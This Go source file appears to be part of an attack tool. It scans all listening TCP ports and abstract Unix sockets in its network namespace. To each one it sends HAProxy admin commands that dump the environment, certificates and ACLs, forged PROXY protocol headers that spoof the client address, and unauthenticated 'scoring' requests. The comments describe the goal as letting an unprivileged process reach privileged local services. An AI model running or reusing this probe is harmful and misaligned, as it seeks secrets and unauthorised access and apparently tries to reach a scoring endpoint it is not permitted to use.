package main

import (
	"bufio"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"time"
)

// listener is a socket of this network namespace that accepts connections, and what it answered.
type listener struct {
	Address string `json:"address"`
	// Answers by the name of the probe: the first 300 characters.
	Answers map[string]string `json:"answers"`
}

// probes are what an unprivileged process could say to a socket: HAProxy's commands (also those of its master), a forged PROXY header
// with a scoring request, and requests without a key.
func (a *attack) probes() map[string]string {
	request := a.head("POST", "content-length: 2", "connection: close") + "{}"
	command := "show info\n"
	v2 := "\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c\x01\x02\x03\x04\x7f\x00\x00\x01\x04\xd2\x01\xbb"
	return map[string]string{
		"command":               command,
		"commands of an admin":  "expert-mode on; show env; show ssl cert; show acl; show servers state\n",
		"command of the master": "@1 show info\n",
		"request":               request,
		"PROXY and a request":   "PROXY TCP4 10.0.0.1 127.0.0.1 1234 443\r\n" + request,
		"PROXY v2 and request":  v2 + request,
		"metrics":               "GET /metrics HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
		"HTTP/2":                "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00",
		"nothing":               "\n",
	}
}

// localScan finds all sockets that accept connections and sends each probe to each.
func localScan(a *attack) any {
	listeners := []listener{}
	for _, address := range append(listeningPorts(), abstractSockets()...) {
		answers := map[string]string{}
		for name, text := range a.probes() {
			answers[name] = probe(address, text)
		}
		listeners = append(listeners, listener{address.String(), answers})
	}
	sort.Slice(listeners, func(i, j int) bool { return listeners[i].Address < listeners[j].Address })
	return map[string]any{"user": os.Getuid(), "listeners": listeners}
}

func probe(address net.Addr, text string) string {
	conn, err := net.DialTimeout(address.Network(), address.String(), time.Second)
	if err != nil {
		return "error: " + reason(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(time.Second))
	if _, err := conn.Write([]byte(text)); err != nil {
		return "error: " + reason(err)
	}
	reader := bufio.NewReader(conn)
	var answer []byte
	for len(answer) < 300 {
		one, err := reader.ReadByte()
		if err != nil {
			break
		}
		answer = append(answer, one)
	}
	return string(answer)
}

// listeningPorts reads /proc/net/tcp and tcp6. Every address of the namespace is reached over loopback.
func listeningPorts() []net.Addr {
	found := map[string]net.Addr{}
	for _, file := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
		text, _ := os.ReadFile(file)
		for _, line := range strings.Split(string(text), "\n") {
			fields := strings.Fields(line)
			if len(fields) < 4 || fields[3] != "0A" {
				continue
			}
			host, port, _ := strings.Cut(fields[1], ":")
			number, err := strconv.ParseUint(port, 16, 16)
			if err != nil {
				continue
			}
			address := &net.TCPAddr{IP: listeningAddress(host), Port: int(number)}
			found[address.String()] = address
		}
	}
	all := make([]net.Addr, 0, len(found))
	for _, address := range found {
		all = append(all, address)
	}
	return all
}

// listeningAddress decodes the kernel's notation: bytes of an IPv4 address in the order of the machine.
func listeningAddress(text string) net.IP {
	bytes, err := hex.DecodeString(text)
	if err != nil || len(bytes) != 4 || string(bytes) == "\x00\x00\x00\x00" {
		return net.IPv4(127, 0, 0, 1)
	}
	return net.IPv4(bytes[3], bytes[2], bytes[1], bytes[0])
}

var abstract = regexp.MustCompile(`(?m)(\d+) +\d+ @(\S+)$`)

// abstractSockets reads /proc/net/unix: abstract sockets belong to the network namespace, and have no permissions.
func abstractSockets() []net.Addr {
	text, err := os.ReadFile("/proc/net/unix")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
	}
	found := map[string]net.Addr{}
	for _, match := range abstract.FindAllStringSubmatch(string(text), -1) {
		// Trailing NULs are shown as @. HAProxy pads names; others do not.
		name := strings.TrimRight(match[2], "@")
		for _, padded := range []string{"@" + name, "@" + name + strings.Repeat("\x00", max(0, 107-len(name)))} {
			found[padded] = &net.UnixAddr{Net: "unix", Name: padded}
		}
	}
	all := make([]net.Addr, 0, len(found))
	for _, address := range found {
		all = append(all, address)
	}
	return all
}
